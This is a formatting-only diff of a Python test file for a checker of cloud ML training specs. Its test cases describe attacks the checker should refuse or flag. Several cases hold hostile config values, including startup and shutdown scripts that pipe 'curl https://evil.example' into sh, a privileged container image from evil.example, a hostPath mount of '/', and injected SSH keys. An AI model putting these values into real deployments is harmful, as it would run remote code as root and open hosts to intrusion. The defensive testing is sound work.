@@ -62,7 +62,9 @@ def node(metadata: dict[str, str], **fields: Any) -> dict[str, Any]:
 
 def host(metadata: dict[str, str]) -> dict[str, Any]:
     """Return the fields of a host of Compute Engine with further metadata."""
-    return {"metadata": {"items": [{"key": key, "value": value} for key, value in metadata.items()]}}
+    return {
+        "metadata": {"items": [{"key": key, "value": value} for key, value in metadata.items()]}
+    }
 
 
 def pool(**container: Any) -> dict[str, Any]:
@@ -73,7 +75,9 @@ def pool(**container: Any) -> dict[str, Any]:
 ONE_SIZE: Final = spec(("sizes: [v2-8, v2-32, v2-128] ", "sizes: [v2-8]"))
 
 
-def attack(id: str, change: Edit, *cautions: str, base: Edit | None = None, absent: tuple[str, ...] = ()) -> Attack:
+def attack(
+    id: str, change: Edit, *cautions: str, base: Edit | None = None, absent: tuple[str, ...] = ()
+) -> Attack:
     """Return an attack that loses no data."""
     return Attack(id, change, cautions, status=0, base=base, absent=absent)
 
@@ -164,22 +168,33 @@ ATTACKS: Final = (
     ),
     refused(
         "steps-removed-by-extra",
-        options("vertex-ai", extra=pool(args=["--data_dir=gs://my-project-dev-mnist-dev-us-central1/data"])),
+        options(
+            "vertex-ai",
+            extra=pool(args=["--data_dir=gs://my-project-dev-mnist-dev-us-central1/data"]),
+        ),
         "error[TPU066]: workerPoolSpecs[0].containerSpec.args is decided by trainer.args and training",
     ),
     refused(
         "more-chips-than-planned",
-        options("vertex-ai", extra={"workerPoolSpecs": [{"machineSpec": {"acceleratorCount": 512}}]}),
+        options(
+            "vertex-ai", extra={"workerPoolSpecs": [{"machineSpec": {"acceleratorCount": 512}}]}
+        ),
         "error[TPU066]: workerPoolSpecs[0].machineSpec.acceleratorCount is decided by sizes",
     ),
     refused(
         "second-pool",
-        options("vertex-ai", extra={"workerPoolSpecs": [{}, {"machineSpec": {"machineType": "a3-highgpu-8g"}}]}),
+        options(
+            "vertex-ai",
+            extra={"workerPoolSpecs": [{}, {"machineSpec": {"machineType": "a3-highgpu-8g"}}]},
+        ),
         "error[TPU068]: workerPoolSpecs[1] in extra would add machines",
     ),
     refused(
         "project-of-another-environment",
-        options("cloud-tpu", extra={"tpu": {"nodeSpec": [{"parent": "projects/my-project-prod/locations/x"}]}}),
+        options(
+            "cloud-tpu",
+            extra={"tpu": {"nodeSpec": [{"parent": "projects/my-project-prod/locations/x"}]}},
+        ),
         "error[TPU066]: tpu.nodeSpec[0].parent is decided by environments.dev.project",
         base=CLOUD_TPU,
     ),
@@ -191,14 +206,23 @@ ATTACKS: Final = (
     ),
     attack(
         "danger-among-many-fields",
-        options("gke", extra={"metadata": {"annotations": {f"a{n}": "x" for n in range(400)}}} | pod(hostPID=True)),
+        options(
+            "gke",
+            extra={"metadata": {"annotations": {f"a{n}": "x" for n in range(400)}}}
+            | pod(hostPID=True),
+        ),
         "hostPID` added (`true`): the program acts with other rights",
         "characters cut",
         base=GKE,
     ),
     attack(
         "secret-of-another-project",
-        spec((_PROD, f"{_PROD}    trainer: {{secrets: {{A: projects/other/secrets/admin/versions/1}}}}\n")),
+        spec(
+            (
+                _PROD,
+                f"{_PROD}    trainer: {{secrets: {{A: projects/other/secrets/admin/versions/1}}}}\n",
+            )
+        ),
         "**every size of prod**: secret `A` added (`projects/other/secrets/admin/versions/1`) in `environments.prod`: "
         "the program gets its value, and the stack grants the jobs' account access to it",
         base=CLOUD_TPU,
@@ -229,7 +253,14 @@ ATTACKS: Final = (
     attack(
         "second-container",
         options(
-            "gke", extra=pod({"name": "side", "image": "evil.example/x:1", "securityContext": {"privileged": True}})
+            "gke",
+            extra=pod(
+                {
+                    "name": "side",
+                    "image": "evil.example/x:1",
+                    "securityContext": {"privileged": True},
+                }
+            ),
         ),
         "containers.side.securityContext.privileged` added (`true`): the program acts with other rights",
         "code comes from `evil.example/x`",
@@ -240,7 +271,10 @@ ATTACKS: Final = (
         options(
             "gke",
             extra=pod(
-                volumes=[{"name": "v", "hostPath": {"path": "/"}}, {"name": "s", "secret": {"secretName": "admin"}}]
+                volumes=[
+                    {"name": "v", "hostPath": {"path": "/"}},
+                    {"name": "s", "secret": {"secretName": "admin"}},
+                ]
             ),
         ),
         "hostPath.path` added (`/`): the program acts with other rights",
@@ -266,7 +300,10 @@ ATTACKS: Final = (
     ),
     refused(
         "start-up-script-replaced",
-        options("cloud-tpu", extra=node({"startup-script": "#!/bin/bash\ncurl -s https://evil.example | sh\n"})),
+        options(
+            "cloud-tpu",
+            extra=node({"startup-script": "#!/bin/bash\ncurl -s https://evil.example | sh\n"}),
+        ),
         "error[TPU066]: tpu.nodeSpec[0].node.metadata.startup-script is decided by trainer",
         base=CLOUD_TPU,
     ),
@@ -278,7 +315,10 @@ ATTACKS: Final = (
     ),
     attack(
         "script-at-the-end",
-        options("cloud-tpu", extra=node({"shutdown-script": "#!/bin/bash\ncurl -s https://evil.example | sh\n"})),
+        options(
+            "cloud-tpu",
+            extra=node({"shutdown-script": "#!/bin/bash\ncurl -s https://evil.example | sh\n"}),
+        ),
         "it runs as root on every host",
         base=together(CLOUD_TPU, ONE_SIZE),
     ),
@@ -286,7 +326,11 @@ ATTACKS: Final = (
         "keys-to-the-hosts",
         options(
             "cloud-tpu",
-            extra=node({"ssh-keys": "me:ssh-ed25519 AAAA"}, networkConfig={"canIpForward": True}, tags=["open"]),
+            extra=node(
+                {"ssh-keys": "me:ssh-ed25519 AAAA"},
+                networkConfig={"canIpForward": True},
+                tags=["open"],
+            ),
         ),
         "people can log in to the hosts",
         "tags` added",
@@ -295,7 +339,10 @@ ATTACKS: Final = (
     attack(
         "keys-to-the-hosts-on-compute-engine",
         options(
-            "compute-engine", extra={"instance": host({"ssh-keys": "me:ssh-ed25519 AAAA", "enable-oslogin": "FALSE"})}
+            "compute-engine",
+            extra={
+                "instance": host({"ssh-keys": "me:ssh-ed25519 AAAA", "enable-oslogin": "FALSE"})
+            },
         ),
         "people can log in to the hosts",
         "people can log in to the hosts",
@@ -305,7 +352,13 @@ ATTACKS: Final = (
         "keys-beside-an-item-without-a-value",
         options(
             "compute-engine",
-            extra={"instance": {"metadata": {"items": [{"key": "ssh-keys", "value": "me:ssh-rsa A"}, {"key": "x"}]}}},
+            extra={
+                "instance": {
+                    "metadata": {
+                        "items": [{"key": "ssh-keys", "value": "me:ssh-rsa A"}, {"key": "x"}]
+                    }
+                }
+            },
         ),
         "people can log in to the hosts",
         base=COMPUTE_ENGINE,
